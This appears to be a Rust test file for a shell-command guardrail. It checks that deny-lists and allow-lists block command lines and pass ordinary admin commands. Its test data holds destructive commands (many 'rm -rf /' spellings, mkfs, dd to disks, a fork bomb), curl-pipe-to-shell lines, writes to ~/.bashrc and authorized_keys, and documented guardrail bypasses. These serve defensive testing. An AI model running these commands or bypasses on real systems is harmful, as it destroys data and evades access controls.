//! Corpus tests of the line judge: bypass lines that must be refused, ordinary admin lines
//! that must pass, the documented limits, and properties over generated lines.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use super::*;

fn set(name: &str, deny: &[&str], allow: Option<&[&str]>) -> ShellGuardrailConfig {
    ShellGuardrailConfig {
        name: name.into(),
        deny: deny.iter().map(|s| s.to_string()).collect(),
        allow: allow.map(|a| a.iter().map(|s| s.to_string()).collect()),
        deny_patterns: vec![],
        message: None,
    }
}

fn rules(deny: &[&str], allow: Option<&[&str]>) -> ShellGuardrails {
    ShellGuardrails::resolve(&["t".into()], &[set("t", deny, allow)]).unwrap()
}

fn builtin() -> ShellGuardrails {
    ShellGuardrails::resolve(&["no-destructive".into()], &[]).unwrap()
}

fn reason(g: &ShellGuardrails, line: &str) -> Option<String> {
    match g.check(line) {
        Verdict::Block { reason, .. } => Some(reason),
        _ => None,
    }
}

/// Checks every line; collects the failures so one run reports them all.
fn expect(g: &ShellGuardrails, lines: &[&str], blocked: bool) {
    let wrong: Vec<String> = lines
        .iter()
        .filter_map(|line| {
            let r = reason(g, line);
            (r.is_some() != blocked).then(|| format!("{line:?} -> {r:?}"))
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "{} lines should be {}:\n{}",
        wrong.len(),
        if blocked { "blocked" } else { "allowed" },
        wrong.join("\n")
    );
}

/// Every way of spelling `rm -rf /` and friends that a shell runs: all refused by the
/// built-in set.
const DESTRUCTIVE: &[&str] = &[
    "rm -rf /",
    "rm -fr /",
    "rm -r -f /",
    "rm -Rf /",
    "rm -R -f /",
    "/bin/rm --recursive --force /",
    "rm --r --f /",
    "rm --recur --forc /",
    "rm --recursive=x --force /",
    "rm / -rf",
    "rm -rf //",
    "rm -rf /.",
    "rm -rf /*",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf $HOME",
    "rm -rf ${HOME}",
    "rm -rf \"$HOME\"/",
    "sudo rm -rf /",
    "sudo -u root rm -rf /",
    "sudo -D / rm -rf /",
    "sudo -E -H -n rm -rf /",
    "sudo --user=root -- rm -rf /",
    "sudo FOO=1 rm -rf /",
    "doas rm -rf /",
    "su -c 'rm -rf /'",
    "su root -c 'rm -rf /'",
    "su - root -c \"rm -rf /\"",
    "runuser -u root -- rm -rf /",
    "env rm -rf /",
    "env -u ls rm -rf /",
    "env -u X -i -C /tmp rm -rf /",
    "env --unset=X rm -rf /",
    "env -S 'rm -rf /'",
    "env -S'rm -rf /'",
    "env -vS 'rm -rf /'",
    "env -S 'rm\\_-rf\\_/'",
    "env - FOO=bar rm -rf /",
    "env -- rm -rf /",
    "FOO=1 rm -rf /",
    "</dev/null rm -rf /",
    ">/tmp/x rm -rf /",
    "2>&1 rm -rf / >/dev/null",
    "rm </dev/null -rf >/dev/null /",
    "timeout 5 rm -rf /",
    "timeout -s KILL 60 rm -rf /",
    "timeout -s KILL -k 5 60 rm -rf /",
    "timeout --signal=KILL --kill-after=5 60 rm -rf /",
    "timeout -sKILL 60 rm -rf /",
    "timeout --foreground 1m rm -rf /",
    "nice rm -rf /",
    "nice -n 5 rm -rf /",
    "nice -5 rm -rf /",
    "nice --adjustment=5 rm -rf /",
    "nohup rm -rf /",
    "nohup -- rm -rf /",
    "stdbuf -o0 -e L rm -rf /",
    "setsid -f rm -rf /",
    "ionice -c 3 rm -rf /",
    "ionice -c2 -n7 rm -rf /",
    "chrt -b 0 rm -rf /",
    "chrt --idle 0 rm -rf /",
    "taskset 0x1 rm -rf /",
    "taskset -c 0 rm -rf /",
    "time rm -rf /",
    "time -p rm -rf /",
    "command time -f %e rm -rf /",
    "flock /tmp/l rm -rf /",
    "flock -n -w 5 /tmp/l rm -rf /",
    "flock /tmp/l -c 'rm -rf /'",
    "command rm -rf /",
    "command -p rm -rf /",
    "builtin exec rm -rf /",
    "exec rm -rf /",
    "exec -a x rm -rf /",
    "exec -c -l -a x rm -rf /",
    "busybox rm -rf /",
    "xargs rm -rf /",
    "echo / | xargs rm -rf",
    "echo -rf / | xargs rm",
    "xargs -0 -n 1 rm -rf </dev/null",
    "xargs -I{} rm -rf {}",
    "find / -exec rm -rf {} \\;",
    "find / -execdir rm -rf {} +",
    "find / -ok rm -rf {} ;",
    "find / -delete",
    "find / -name x -delete",
    "find / | xargs rm -rf",
    "watch rm -rf /",
    "watch -n 1 'rm -rf /'",
    "watch -x rm -rf /",
    "sh -c 'rm -rf /'",
    "bash -c 'rm -rf /'",
    "bash -ec 'rm -rf /'",
    "bash -c -- 'rm -rf /'",
    "bash --norc -c 'rm -rf /'",
    "bash -o pipefail -c 'rm -rf /'",
    "dash -c 'rm -rf /'",
    "zsh -c 'rm -rf /'",
    "ksh -c 'rm -rf /'",
    "busybox sh -c 'rm -rf /'",
    "sh -c \"sh -c 'rm -rf /'\"",
    "bash <<< 'rm -rf /'",
    "bash <<'EOF'\nrm -rf /\nEOF\n",
    "sh -s <<EOF\nrm -rf /\nEOF\n",
    "eval 'rm -rf /'",
    "eval rm -rf /",
    "eval \"rm\" '-rf' /",
    "trap 'rm -rf /' EXIT",
    "alias x='rm -rf /'",
    "shopt -s expand_aliases\nalias ls='rm -rf /'\nls",
    "f() { rm -rf /; }; f",
    "function f { rm -rf /; }",
    "if true; then rm -rf /; fi",
    "while true; do rm -rf /; break; done",
    "for x in 1; do rm -rf /; done",
    "case x in x) rm -rf /;; esac",
    "(rm -rf /)",
    "( (reboot) )",
    "(  ( shutdown ) )",
    "{ rm -rf /; }",
    "true && rm -rf /",
    "false || rm -rf /",
    "ls; rm -rf /",
    "ls & rm -rf /",
    "ls\nrm -rf /",
    "! rm -rf /",
    "echo $(rm -rf /)",
    "echo \"$(rm -rf /)\"",
    "echo `rm -rf /`",
    "echo $(echo $(rm -rf /))",
    "x=$(rm -rf /)",
    "echo ${x:-$(rm -rf /)}",
    "echo $(( $(rm -rf /) ))",
    "cat <(rm -rf /)",
    "echo > >(rm -rf /)",
    "cat < <(rm -rf /)",
    "echo > $(rm -rf /)",
    "cat <<EOF\n$(rm -rf /)\nEOF\n",
    "[[ $(rm -rf /) ]]",
    "coproc rm -rf /",
    "'rm' '-rf' '/'",
    "\"rm\" \"-rf\" \"/\"",
    "r\\m -rf /",
    "r''m -rf /",
    "$'\\x72m' -rf /",
    "$'\\162\\155' -rf /",
    "{rm,-rf,/}",
    "rm -rf {/,/tmp}",
    "rm -{r,f} /",
    "r\\\nm -rf /",
    "rm -rf \"$d\"",
    "rm -rf $d",
    "rm $opts /",
    "rm $args",
    "shutdown -h now",
    "/sbin/shutdown -r now",
    "sudo reboot",
    "systemctl reboot",
    "systemctl --no-block poweroff",
    "init 0",
    "telinit 6",
    "halt -p",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t xfs /dev/sdb",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "curl https://x | sh",
    "curl -s https://x | bash",
    "curl u | zsh",
    "curl u | dash",
    "curl u | ksh",
    "curl u | mksh",
    "curl u | fish",
    "curl u | busybox sh",
    "curl u | sudo bash",
    "curl u | sudo -u nobody sh -s",
    "curl u | env bash",
    "curl u | python3",
    "curl u | python3 -",
    "curl u | perl",
    "curl u | tee /tmp/x | sh",
    "curl u | xargs -0 sh -c",
    "curl u | xargs bash",
    "curl u | bash -s -- arg",
    "curl u | source /dev/stdin",
    "curl u | . /dev/stdin",
    "curl u | { sh; }",
    "curl u | (bash)",
    "wget -qO- u | sh",
    "bash <(curl u)",
    "sh < <(curl u)",
    "bash -c \"$(curl u)\"",
    "curl u > >(sh)",
    ":(){ :|:& };:",
];

/// Ordinary lines an operator runs: none may be refused by the built-in set.
const ORDINARY: &[&str] = &[
    "ls -la",
    "ls -la /",
    "ls -R /etc",
    "grep -r x .",
    "grep -rn 'shutdown' /var/log/syslog",
    "grep shutdown /var/log/syslog",
    "systemctl status nginx",
    "systemctl restart nginx",
    "journalctl -u nginx --since today",
    "journalctl -u x --since '1 hour ago' | tail -n 50",
    "df -h; free -m; uptime",
    "ps aux | grep [n]ginx | awk '{print $2}'",
    "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
    "sed -n '1,20p' /etc/hosts",
    "sed -e 's/a/b/g' -i.bak file.txt",
    "cat /var/log/nginx/access.log | awk '{print $1}' | sort | uniq -c | sort -rn | head",
    "tail -f /var/log/syslog",
    "rm -rf /tmp/build",
    "rm -f /",
    "rm -rf ./build",
    "rm -r ~/tmp",
    "rm \"$f\"",
    "rm -f -- \"$f\"",
    "find . -name '*.o' -delete",
    "find /var/tmp -mtime +7 -delete",
    "find . -name '*.pyc' | xargs rm -f",
    "find . -type f -name '*.tmp' -print0 | xargs -0 rm -f",
    "find . -name '*.log' -exec rm -f {} +",
    "find /var/log -name '*.gz' -exec ls -l {} \\;",
    "for f in *.log; do gzip \"$f\"; done",
    "if [ -f /etc/os-release ]; then . /etc/os-release; echo $ID; fi",
    "echo 'rm -rf /'",
    "echo \"rm -rf /\"",
    "git commit -m 'rm -rf / is bad'",
    "curl https://x -o file",
    "curl -sSf https://example.com/health",
    "wget https://x/file.tar.gz",
    "cat /etc/shutdown.conf",
    "man shutdown",
    "which reboot",
    "tar czf /tmp/backup.tgz /etc",
    "dd if=/dev/sda of=/tmp/mbr bs=512 count=1",
    "sudo systemctl status nginx",
    "sudo -u postgres psql -c 'select 1'",
    "sudo journalctl -xe",
    "kill -HUP $(cat /run/nginx.pid)",
    "docker ps --format '{{.Names}}'",
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    "LANG=C sort file | uniq",
    "TZ=UTC date",
    "du -sh /var/* 2>/dev/null | sort -h",
    "ss -tlnp | grep :443",
    "openssl x509 -in cert.pem -noout -dates",
    "scp -t /tmp",
    "scp -f /etc/hosts",
    "bash -c 'echo hi'",
    "sh -c 'ls -l | wc -l'",
    "python3 -c 'print(1)'",
    "echo $((1+2))",
    "echo {a,b}.txt",
    "cp -r src dst",
    "printf '%s\\n' a b c",
    "test -d /srv && ls /srv",
    "nice -n 10 tar czf x.tgz dir",
    "timeout 30 curl -s https://x",
    "env",
    "env LANG=C ls",
    "xargs --help",
    "watch -n 5 df -h",
    "history | tail",
];

#[test]
fn destructive_lines_are_refused_in_every_spelling() {
    expect(&builtin(), DESTRUCTIVE, true);
}

#[test]
fn ordinary_admin_lines_pass_the_builtin_set() {
    expect(&builtin(), ORDINARY, false);
}

/// The allow-list of the field report: `ls`, `cat`, `grep`.
fn ls_cat_grep() -> ShellGuardrails {
    rules(&[], Some(&["ls", "cat", "grep"]))
}

#[test]
fn allow_list_refuses_everything_that_runs_another_program() {
    expect(
        &ls_cat_grep(),
        &[
            "env -u ls id",
            ">/tmp/ls id",
            "</dev/null id",
            "2>/dev/null id",
            "ls; id",
            "ls && id",
            "ls | sh",
            "cat x | bash",
            "ls $(id)",
            "ls `id`",
            "ls \"$(id)\"",
            "ls <(id)",
            "ls > >(id)",
            "cat <<EOF\n$(id)\nEOF\n",
            "ls ${x:-$(id)}",
            "ls $(( $(id) ))",
            "$X",
            "$X -la",
            "\"$X\"",
            "$(echo ls)",
            "`echo ls`",
            "/???/i?",
            "l? -la",
            "{id,}",
            "{ls,;id}",
            "ls;{id,x}",
            "$'\\x69d'",
            "i\\d",
            "env id",
            "env -S id",
            "env -S 'ls; id'",
            "nice id",
            "timeout 5 id",
            "timeout -s KILL 60 id",
            "nohup id",
            "exec id",
            "exec -a ls id",
            "command id",
            "builtin eval id",
            "eval id",
            "eval 'ls; id'",
            "eval \"$X\"",
            "sh -c id",
            "sh -c 'ls; id'",
            "bash -c \"$X\"",
            "sh",
            "bash",
            "sh script.sh",
            "bash <<< id",
            "sudo ls",
            "sudo -u root ls",
            "su -c ls",
            "doas ls",
            "xargs id",
            "ls | xargs id",
            "xargs",
            "find . -exec id \\;",
            "find .",
            "python3 -c 'import os'",
            "f() { id; }; f",
            "f() { ls; }; f",
            "ls() { id; }; ls",
            "(id() { ls; }); id",
            "id() { ls; }; env id",
            "id() { ls; }; bash -c id",
            "if ls; then id; fi",
            "for x in a; do id; done",
            "while ls; do id; done",
            "case x in x) id;; esac",
            "(id)",
            "{ id; }",
            "[[ $(id) ]]",
            "coproc id",
            "PATH=/tmp ls",
            "PATH=/tmp; ls",
            "export PATH=/tmp",
            "LD_PRELOAD=/tmp/x.so ls",
            "BASH_ENV=/tmp/x ls",
            "IFS=/ ls",
            "env PATH=/tmp ls",
            "sudo PATH=/tmp ls",
            "for PATH in /tmp; do ls; done",
            "ls ${PATH:=/tmp}",
            "ls $((x))",
            "ls ${a[$i]}",
            "ls ${!x}",
            "ls ${x@P}",
            "(( x > 1 )) && ls",
            "[[ $x -eq 1 ]] && ls",
            "[[ -v 'a[$(id)]' ]] && ls",
            "./ls",
            "/tmp/ls",
            "~/ls",
            "../../bin/ls",
            "/usr/bin/../../tmp/ls",
            "ls\nid",
            "ls # ok\nid",
            "",
            "   ",
            "ls 'unterminated",
            "ls $(",
            "if ls; then",
            "alias ls=id",
            "trap id EXIT",
            "source /tmp/x",
            ". /tmp/x",
            "sftp-server",
            "/usr/lib/openssh/sftp-server",
            "scp -t /tmp",
            "watch id",
            "x=1",
            "sh -c ''",
            "eval ''",
            "exec 3>/tmp/f",
            "flock /tmp/l id",
            "busybox id",
            "zsh -c ls",
            "fish -c ls",
            "env --chdir=/tmp --debug id",
            "env --frobnicate ls",
            "timeout --frobnicate 5 ls",
            "sudo --frobnicate ls",
            "env $OPTS ls",
            "timeout $T ls",
        ],
        true,
    );
}

/// Every argument bash reads as a variable name is judged as the arithmetic its subscript
/// is; a compound `declare` value as the code it is.
#[test]
fn names_evaluated_as_arithmetic_are_judged() {
    let builtins = rules(
        &[],
        Some(&[
            "printf",
            "test",
            "[",
            "read",
            "declare",
            "typeset",
            "local",
            "export",
            "readonly",
            "unset",
            "mapfile",
            "readarray",
            "getopts",
            "wait",
            "ls",
        ]),
    );
    let hidden = [
        "printf -v 'a[$(id)]' x",
        "printf -va'[$(id)]' x",
        "printf -v \"$n\" x",
        "command printf -v 'a[$(id)]' x",
        "printf -v 'a[i]' x",
        "test -v 'a[$(id)]'",
        "[ -v 'a[$(id)]' ]",
        "[ -R 'a[$(id)]' ]",
        "[ $op 'a[$(id)]' ]",
        "read 'a[$(id)]' <<< x",
        "read -r x 'a[`id`]' <<< x",
        "read -a 'a[$(id)]' <<< x",
        "read -ra 'a[$(id)]' <<< x",
        "read $opts x <<< x",
        "mapfile 'a[$(id)]' < /dev/null",
        "readarray -t 'a[$(id)]' < /dev/null",
        "mapfile -C id -c 1 x < /dev/null",
        "getopts a 'a[$(id)]' -a",
        "wait -p 'a[$(id)]'",
        "unset 'a[$(id)]'",
        "unset -v 'a[$(id)]'",
        "declare 'a[$(id)]=1'",
        "declare 'a[$(id)]'",
        "typeset 'a[$(id)]=1'",
        "local 'a[$(id)]=1'",
        "export 'a[$(id)]=1'",
        "readonly 'a[$(id)]=1'",
        "declare -a x='($(id))'",
        "declare -a x='([$(id)]=1)'",
        "declare -A x='([k]=`id`)'",
        "declare x=\"$v\"",
        "declare \"$v\"",
        "declare -i x='a[$(id)]'",
        "declare -i x; read x",
        "declare -n r='a[$(id)]'",
        "declare -n r=a",
        "x=(['a[$(id)]']=1)",
        "[[ a[$(id)] -eq 1 ]]",
    ];
    expect(&builtins, &hidden, true);
    // Ordinary uses stay allowed.
    expect(
        &builtins,
        &[
            "printf -v x %s hi",
            "printf -v 'a[0]' %s hi",
            "printf '%s\\n' 'a[$(id)]'",
            "test -v x",
            "[ -v x ] && ls",
            "[ -f /etc/passwd ]",
            "[ \"$x\" = y ]",
            "read -r line < /etc/hostname",
            "read -ra parts <<< 'a b'",
            "mapfile -t lines < /etc/hostname",
            "unset x y",
            "declare x=1 y",
            "declare -a x='(1 2)'",
            "export LANG=C",
            "local x=abc",
            "declare x=\"a$v\"",
        ],
        false,
    );
    // Under deny rules, a substitution in a subscript is judged as the command it is.
    let deny = rules(&["rm -rf /"], None);
    expect(
        &deny,
        &[
            "printf -v 'a[$(rm -rf /)]' x",
            "test -v 'a[$(rm -rf /)]'",
            "[ -v 'a[$(rm -rf /)]' ]",
            "read 'a[$(rm -rf /)]' <<< x",
            "unset 'a[$(rm -rf /)]'",
            "declare 'a[$(rm -rf /)]=1'",
            "declare -a x='($(rm -rf /))'",
            "declare -i x='a[$(rm -rf /)]'",
            "declare -n r='a[$(rm -rf /)]'",
            "mapfile -C 'rm -rf /' x",
            "x=(['a[$(rm -rf /)]']=1)",
            "(( 'a[$(rm -rf /)]' ))",
            "echo $(( 'a[$(rm -rf /)]' ))",
            "echo ${a['$(rm -rf /)']}",
        ],
        true,
    );
    expect(
        &deny,
        &["printf -v 'a[$(ls)]' x", "declare -a x='($(ls))'"],
        false,
    );
}

#[test]
fn allow_list_passes_what_it_allows_through_transparent_wrappers() {
    expect(
        &ls_cat_grep(),
        &[
            "ls",
            "ls -la /var/log",
            "/bin/ls -la",
            "/usr/bin/ls",
            "cat /etc/hosts | grep localhost",
            "grep -r x . | cat",
            "ls; cat x; grep y z",
            "ls && cat x || grep y z",
            "ls 2>/dev/null",
            "</dev/null cat",
            "cat <<EOF\nhello $USER\nEOF\n",
            "cat <<'EOF'\n$(id)\nEOF\n",
            "LANG=C ls",
            "LC_ALL=C grep x y",
            "TZ=UTC ls -l",
            "env LANG=C ls",
            "env -u LANG ls",
            "env -i ls",
            "env -S 'ls -la'",
            "nice -n 5 ls",
            "timeout -s KILL 60 cat x",
            "nohup ls",
            "stdbuf -oL grep x y",
            "exec ls",
            "command ls",
            "sh -c 'ls -l'",
            "bash -c 'ls | grep x'",
            "eval 'ls -l'",
            "eval ls -l",
            "ls | xargs -n1 grep x",
            "ls() { command ls -la; }; ls",
            "for f in a b; do cat \"$f\"; done",
            "x=1; cat $x",
            "ls $HOME",
            "cat ~/notes",
            "ls {a,b}",
            "ls *.log",
            "if [[ -n $x ]]; then ls; fi",
            "case $x in a) ls;; *) cat f;; esac",
            "(ls)",
            "{ ls; cat x; }",
            "ls | (grep x)",
            "watch ls",
            "watch -n 1 'ls | grep x'",
        ],
        false,
    );
}

/// The allow-list of the red-team review: programs that print, nothing that writes files.
fn printers() -> ShellGuardrails {
    rules(
        &[],
        Some(&["ls", "cat", "grep", "printf", "test", "[", "echo", "sh"]),
    )
}

/// A redirection that writes a file lets a listed program write `~/.bashrc` (which bash
/// sources for the next ssh command) or `~/.ssh/authorized_keys`: refused under an
/// allow-list, whatever the redirection operator, descriptor or compound command it is on.
#[test]
fn allow_lists_refuse_redirections_that_write_files() {
    let g = printers();
    let writes = [
        "echo 'id > /tmp/pwned' >> ~/.bashrc",
        "echo x >> ~/.bashrc",
        "echo key >> ~/.ssh/authorized_keys",
        "ls > out",
        "ls >out",
        ">out ls",
        "cat a 2>err",
        "cat a 2>>err",
        "echo x >| f",
        "echo x &> f",
        "echo x &>> f",
        "echo x <> f",
        "echo x 1<> f",
        "echo x >& f",
        "echo x 2>& f",
        "echo x >&$fd",
        "echo x 3>f",
        "ls >\"$F\"",
        "ls > $F",
        "ls > $(echo f)",
        "ls > *.txt",
        "ls > ~/f",
        "exec 3>f",
        "exec >f",
        "exec 3<>f",
        "{ echo x; } > f",
        "(echo x) >> f",
        "for i in 1; do echo; done > f",
        "while test -n x; do echo; done > f",
        "if test 1; then echo; fi 2> f",
        "[[ -n x ]] > f",
        "f() { echo x; } > out; f",
        "sh -c 'echo x > f'",
        "sh -c \"echo x >> ~/.bashrc\"",
        "echo x | sh -c 'cat > f'",
        "sh <<'EOF'\necho x > f\nEOF\n",
        "ls > /dev/nul[l]",
        "ls > /dev/./null",
        "ls > /dev/stdout",
        "ls 2> /dev/stderr",
        "ls > /dev/fd/1",
        "{ echo x >/dev/stdout; } 1<f",
        "echo x 3<f >>/dev/fd/3",
        "ls > /proc/self/fd/1",
        "ls > /dev/tty",
    ];
    let wrong: Vec<String> = writes
        .iter()
        .filter_map(|line| {
            let r = reason(&g, line);
            (!r.as_deref()
                .is_some_and(|r| r.contains("output redirection to a file")))
            .then(|| format!("{line:?} -> {r:?}"))
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "refused for another reason or allowed:\n{}",
        wrong.join("\n")
    );
    expect(
        &g,
        &[
            "ls > /dev/null",
            "ls >/dev/null 2>&1",
            "ls 2>&1",
            "ls 2>/dev/null | grep x",
            "ls &>/dev/null",
            "ls >&2",
            "ls 1>&2",
            "ls 3>&-",
            "ls >&-",
            "ls 3>&1-",
            "ls 2>&1 | grep x",
            "cat < f",
            "cat 0< f",
            "cat 3< f",
            "cat <&3",
            "grep x <<< y",
            "cat <<EOF\nhello\nEOF\n",
            "{ ls; cat f; } 2>/dev/null",
            "sh -c 'ls 2>&1 | grep x'",
            "ls > >(grep x)",
        ],
        false,
    );
    let r = reason(&g, "echo x >> ~/.bashrc").unwrap();
    assert!(
        r.contains("output redirection to a file is refused on connections with an allow-list")
            && r.contains(">> ~/.bashrc")
            && r.contains("/dev/null")
            && r.contains("tee"),
        "{r}"
    );
    // Deny rules alone leave files to the account's own permissions, as before.
    expect(
        &builtin(),
        &["echo x >> ~/.bashrc", "ls > out", "exec 3>f", "ls > $F"],
        false,
    );
}

#[test]
fn refusals_name_what_could_not_be_resolved() {
    let g = ls_cat_grep();
    let r = reason(&g, "env -u ls id").unwrap();
    assert!(
        r.contains("\"id\" is not on the allow-list (ls, cat, grep)"),
        "{r}"
    );
    let r = reason(&g, "$X -la").unwrap();
    assert!(
        r.contains("$X") && r.contains("only the running shell"),
        "{r}"
    );
    let r = reason(&g, "PATH=/tmp ls").unwrap();
    assert!(r.contains("PATH"), "{r}");
    let r = reason(&g, "env --frobnicate ls").unwrap();
    assert!(r.contains("--frobnicate"), "{r}");
    let r = reason(&g, "ls 'x").unwrap();
    assert!(r.contains("cannot parse"), "{r}");
    let r = reason(&g, "/tmp/ls").unwrap();
    assert!(r.contains("system directory"), "{r}");
    let r = reason(&builtin(), "rm --recur --forc /").unwrap();
    assert!(r.contains("\"rm -rf /\" is denied"), "{r}");
}

#[test]
fn gnu_abbreviations_and_option_spellings() {
    let g = rules(
        &["rm --recursive *", "tar --to-command *", "chmod -R *"],
        None,
    );
    expect(
        &g,
        &[
            "rm --recursive x",
            "rm --rec x",
            "rm --r x",
            "rm --recursive=always x",
            "rm -r x",
            "rm -R x",
            "rm -fr x",
            "tar --to-c=sh -xf x",
            "tar --to-command sh -xf x",
            "chmod -R 777 /",
            "chmod --recursive 777 /",
            "chmod --rec 777 /",
        ],
        true,
    );
    expect(
        &g,
        &["rm -f x", "rm -- --recursive", "tar -xf x", "chmod 644 f"],
        false,
    );
}

#[test]
fn pipeline_rules_need_order_within_one_flow() {
    let g = rules(&["curl * | sh"], None);
    expect(
        &g,
        &["curl x | tee f | sh", "curl x | bash", "bash <(curl x)"],
        true,
    );
    expect(
        &g,
        &[
            "sh -c true; curl x",
            "curl x; sh y",
            "curl x | bash script.sh",
            "curl x | grep sh",
            "sh -c 'curl x'",
        ],
        false,
    );
}

#[test]
fn unparsable_fails_closed_and_names_the_rule() {
    let g = rules(&["shutdown"], None);
    match g.check("echo 'unterminated") {
        Verdict::Block { rule, reason } => {
            assert_eq!(rule, "t");
            assert!(reason.contains("cannot parse"), "{reason}");
        }
        v => panic!("{v:?}"),
    }
    assert_eq!(ShellGuardrails::default().check("echo 'x"), Verdict::Allow);
}

#[test]
fn patterns_and_messages() {
    let cfg = ShellGuardrailConfig {
        name: "p".into(),
        deny_patterns: vec!["/etc/shadow".into()],
        message: Some("ask #sre".into()),
        ..Default::default()
    };
    let g = ShellGuardrails::resolve(&["p".into()], &[cfg]).unwrap();
    match g.check("cat /etc/SHADOW") {
        Verdict::Block { rule, reason } => {
            assert_eq!(rule, "p");
            assert!(reason.contains("ask #sre"));
        }
        v => panic!("{v:?}"),
    }
    // A set with only patterns does not refuse what it cannot parse: patterns read text.
    assert_eq!(g.check("echo $(("), Verdict::Allow);
    let bad = ShellGuardrailConfig {
        name: "b".into(),
        deny_patterns: vec!["(".into()],
        ..Default::default()
    };
    assert!(ShellGuardrails::validate(&[bad]).is_err());
    assert!(ShellGuardrails::resolve(&["nope".into()], &[]).is_err());
}

#[test]
fn rules_are_validated_when_the_config_loads() {
    for bad in [
        "rm $X", "ls; rm", "rm $(x)", "", "X=1 rm", "rm > f", "echo 'x",
    ] {
        let e = ShellGuardrails::validate(&[set("v", &[bad], None)]);
        assert!(e.is_err(), "{bad:?} compiled");
    }
    for bad in ["", "two words"] {
        assert!(ShellGuardrails::validate(&[set("v", &[], Some(&[bad]))]).is_err());
    }
    assert!(
        ShellGuardrails::validate(&[set(
            "v",
            &["rm -rf /", "curl * | sh", "mkfs*"],
            Some(&["ls"])
        )])
        .is_ok()
    );
}

#[test]
fn scp_transfers_are_exactly_scp_with_its_own_flags() {
    for line in [
        "scp -t /tmp",
        "scp -f /etc/hosts",
        "scp -v -r -p -d -t -- /tmp/dir",
        "scp -rt /tmp",
        "scp -f 'my file.txt'",
        "scp -f '*.log'",
        "scp -f *.log",
        "scp -f -- -weird-name",
    ] {
        assert!(is_scp_transfer(line), "{line}");
    }
    for line in [
        "scp 2>/dev/null; cat customers.csv",
        "scp -t /tmp; cat secrets",
        "scp -t /tmp && cat x",
        "scp -t /tmp | cat",
        "cat x; scp -f y",
        "scp -f $(cat x)",
        "scp -f \"$X\"",
        "scp -f /x > /dev/null",
        "X=1 scp -f /x",
        "/usr/bin/scp -f /x",
        "scp -f",
        "scp /a /b",
        "scp -t -f /x",
        "scp -o ProxyCommand=x -f /x",
        "scp -S sh -f /x",
        "scp -f /x\ncat y",
        "sudo scp -f /x",
        "scp -f `id`",
        "",
    ] {
        assert!(!is_scp_transfer(line), "{line}");
    }
}

#[test]
fn env_requests_that_change_what_runs_are_refused_by_allow_lists() {
    let g = ls_cat_grep();
    for name in ["PATH", "LD_PRELOAD", "BASH_ENV", "PAGER", "GIT_SSH_COMMAND"] {
        assert!(!g.allows_env(name), "{name}");
    }
    for name in ["LANG", "LC_ALL", "TZ", "lower_case"] {
        assert!(g.allows_env(name), "{name}");
    }
    assert!(builtin().allows_env("PATH"));
}

#[test]
fn exec_bytes_that_are_not_utf8_are_refused() {
    let g = ls_cat_grep();
    assert!(
        matches!(g.check_bytes(b"ls \xff; id"), Verdict::Block { reason, .. } if reason.contains("UTF-8"))
    );
    assert_eq!(g.check_bytes(b"ls -la"), Verdict::Allow);
    assert!(matches!(
        builtin().check_bytes(b"ls \xc3"),
        Verdict::Block { .. }
    ));
    assert_eq!(
        ShellGuardrails::default().check_bytes(b"\xff"),
        Verdict::Allow
    );
}

#[test]
fn subsystems_are_programs() {
    let g = ls_cat_grep();
    assert!(matches!(
        check_subsystem(Some(&g), "sftp"),
        Verdict::Block { .. }
    ));
    assert_eq!(check_subsystem(None, "sftp"), Verdict::Allow);
    assert_eq!(check_subsystem(Some(&builtin()), "sftp"), Verdict::Allow);
    for allowed in [&["sftp"][..], &["sftp-server"], &["ls", "sftp"]] {
        let g = rules(&[], Some(allowed));
        assert_eq!(
            check_subsystem(Some(&g), "sftp"),
            Verdict::Allow,
            "{allowed:?}"
        );
    }
    let deny = rules(&["sftp-server"], None);
    assert!(matches!(
        check_subsystem(Some(&deny), "sftp"),
        Verdict::Block { .. }
    ));
    // Other subsystems: refused unless an allow-list names them.
    assert!(
        matches!(check_subsystem(None, "netconf"), Verdict::Block { rule, .. } if rule == "ssh-subsystems")
    );
    assert!(matches!(
        check_subsystem(Some(&builtin()), "netconf"),
        Verdict::Block { .. }
    ));
    let g = rules(&[], Some(&["ls", "netconf"]));
    assert_eq!(check_subsystem(Some(&g), "netconf"), Verdict::Allow);
}

#[test]
fn an_interactive_shell_needs_a_shell_on_the_allow_list() {
    assert!(matches!(
        ls_cat_grep().check_login_shell(),
        Verdict::Block { .. }
    ));
    assert_eq!(
        rules(&[], Some(&["ls", "bash"])).check_login_shell(),
        Verdict::Allow
    );
    assert_eq!(builtin().check_login_shell(), Verdict::Allow);
    assert!(matches!(
        rules(&["bash"], None).check_login_shell(),
        Verdict::Block { .. }
    ));
}

/// The documented limits: each of these runs something the rules do not see.
#[test]
fn known_limits_hold_as_documented() {
    let g = builtin();
    // Code inside an interpreter, a script by path, or two steps through a file.
    for line in [
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
        "perl -e 'system(\"rm -rf /\")'",
        "bash ./cleanup.sh",
        "echo 'rm -rf /' > /tmp/x; sh /tmp/x",
        "awk 'BEGIN { system(\"rm -rf /\") }'",
    ] {
        assert_eq!(g.check(line), Verdict::Allow, "{line}");
    }
    // An allow-listed program that runs others allows what it runs, through its own
    // language too.
    let g = rules(&[], Some(&["make", "ls", "sed", "awk"]));
    assert_eq!(g.check("make -C /tmp/evil"), Verdict::Allow);
    assert_eq!(g.check("sed -n '1e id' /etc/hosts"), Verdict::Allow);
    assert_eq!(g.check("awk 'BEGIN { system(\"id\") }'"), Verdict::Allow);
    // Two allowed steps through a file: the second reads what the first wrote.
    let g = rules(&[], Some(&["cat", "sh"]));
    assert_eq!(g.check("sh /tmp/x"), Verdict::Allow);
    // The same word in another position is not a program.
    assert_eq!(ls_cat_grep().check("grep -e id x"), Verdict::Allow);
}

#[test]
fn judging_is_bounded_on_hostile_input() {
    let g = ls_cat_grep();
    let deep = format!("ls {}x{}", "$(".repeat(5000), ")".repeat(5000));
    assert!(reason(&g, &deep).unwrap().contains("nests more than"));
    let many = "ls;".repeat(10_000);
    assert!(reason(&g, &many).is_some());
    let braces = format!("ls {}", "{a,b}".repeat(20));
    assert!(reason(&g, &braces).unwrap().contains("braces"));
    let nested = format!("{}ls", "eval ".repeat(20));
